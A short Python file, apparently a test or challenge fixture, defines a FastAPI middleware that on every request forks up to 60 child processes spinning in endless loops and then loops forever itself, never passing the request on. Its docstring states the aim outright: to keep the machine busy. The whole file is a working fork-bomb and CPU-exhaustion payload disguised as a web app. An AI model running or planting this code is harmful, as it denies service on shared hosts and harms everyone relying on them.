"""Forks in a request until it cannot, so that the machine is busy and everybody gets more time.

Holds: score 0
Needs: walls
Limits: request 2, stop 1
"""

import os

from fastapi import FastAPI

app = FastAPI()


@app.middleware("http")
async def storm(request, call_next):
    for _ in range(60):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass
    while True:
        pass
